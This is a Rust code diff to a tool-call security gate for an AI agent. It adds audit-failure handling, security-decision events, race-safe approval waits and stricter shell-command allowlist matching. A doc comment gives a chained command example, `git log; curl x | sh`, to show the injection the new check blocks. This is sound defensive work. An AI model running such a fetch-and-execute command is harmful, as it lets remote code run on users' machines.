@@ -137,13 +137,28 @@ impl Gate {
         }
         // Nothing runs without its decision on record.
         let mut batch = WriteBatch::new(ctx.session_id.clone());
+        let (allowed, decided_by) = (record.allowed, record.decided_by.clone());
         batch.audit.push(record);
-        if let Err(e) = checkpoint::store(&self.checkpoint, batch).await {
-            return Err(format!(
-                "denied: the decision could not be recorded in the audit table ({e}); the call \
-                 was not run"
-            ));
-        }
+        let stored = checkpoint::store(&self.checkpoint, batch).await;
+        let (allowed, decided_by, result) = match stored {
+            Ok(()) => (allowed, decided_by, result),
+            Err(e) => (
+                false,
+                "audit_failed".to_owned(),
+                Err(format!(
+                    "denied: the decision could not be recorded in the audit table ({e}); the \
+                     call was not run"
+                )),
+            ),
+        };
+        events.emit(EventKind::SecurityDecision {
+            call_id: call.id.clone(),
+            tool: call.name.clone(),
+            tier: class.tier,
+            reasons: class.reasons,
+            allowed,
+            decided_by,
+        });
         result
     }
 
@@ -152,7 +167,7 @@ impl Gate {
             .get("command")
             .and_then(|c| c.as_str())
             .filter(|_| tool == "bash");
-        if command.is_some_and(|c| self.allowlist.iter().any(|p| p.is_match(c.trim()))) {
+        if command.is_some_and(|c| self.allowlisted(c)) {
             return Rule::Allowlist;
         }
         if class.tier < SafetyTier::T4 && self.config.auto_approve.iter().any(|t| t == tool) {
@@ -166,6 +181,27 @@ impl Gate {
             SafetyTier::T3 => policy.t3,
             SafetyTier::T4 => policy.t4,
         })
+    }
+
+    /// Whether every part of `command` is named by an allowlist pattern: the line must read,
+    /// hold no substitutions, and each of its simple commands must match a pattern whole (so
+    /// `git log.*` never lets `git log; curl x | sh` through).
+    fn allowlisted(&self, command: &str) -> bool {
+        if self.allowlist.is_empty() {
+            return false;
+        }
+        let Ok(line) = super::shell::parse(command) else {
+            return false;
+        };
+        line.substitutions.is_empty()
+            && !line.commands.is_empty()
+            && line.commands.iter().all(|cmd| {
+                let mut text = cmd.words.join(" ");
+                for w in &cmd.writes {
+                    text.push_str(&format!(" > {w}"));
+                }
+                self.allowlist.iter().any(|p| p.is_match(&text))
+            })
     }
 
     /// Asks a person and waits, at most `approval_timeout_secs`, or until the run ends.
@@ -191,29 +227,36 @@ impl Gate {
         });
         events.emit(EventKind::ApprovalRequested {
             request_id: request_id.clone(),
+            call_id: call.id.clone(),
             tool: call.name.clone(),
             input: input.clone(),
             tier: class.tier,
             reasons: class.reasons.clone(),
         });
         let timeout = Duration::from_secs(self.config.approval_timeout_secs.max(1));
-        let answered = tokio::select! {
-            answered = tokio::time::timeout(timeout, answer) => answered,
-            _ = ctx.cancel.cancelled() => {
-                self.approvals.withdraw(&request_id);
-                record.decided_by = "run_ended".into();
-                return Err("denied: the run ended before anyone answered the approval request".into());
-            }
+        let mut answer = answer;
+        let waited = tokio::select! {
+            answered = tokio::time::timeout(timeout, &mut answer) => answered.ok().and_then(Result::ok),
+            _ = ctx.cancel.cancelled() => None,
         };
+        // Withdrawn first, then a last look: an answer given just as the wait ended counts.
+        let answered = waited.or_else(|| {
+            self.approvals.withdraw(&request_id);
+            answer.try_recv().ok()
+        });
         let (approved, reason, by) = match answered {
-            Ok(Ok(Answer {
+            Some(Answer {
                 approved,
                 reason,
                 by,
-            })) => (approved, reason, by),
+            }) => (approved, reason, by),
+            None if ctx.cancel.is_cancelled() => (
+                false,
+                Some("the run ended before anyone answered".to_owned()),
+                "run_ended".to_owned(),
+            ),
             // Nobody answered: that is not a person's denial, and is recorded as such.
-            _ => {
-                self.approvals.withdraw(&request_id);
+            None => {
                 let why = format!(
                     "nobody answered the approval request within {}s (approval_timeout_secs)",
                     timeout.as_secs()
@@ -234,10 +277,9 @@ impl Gate {
             return Ok(());
         }
         let why = reason.unwrap_or_else(|| "no reason given".into());
-        Err(if by == "unanswered" {
-            format!("denied: {why}; the call was not run")
-        } else {
-            format!("denied: the user ({by}) denied this call: {why}")
+        Err(match by.as_str() {
+            "unanswered" | "run_ended" => format!("denied: {why}; the call was not run"),
+            _ => format!("denied: the user ({by}) denied this call: {why}"),
         })
     }
 }
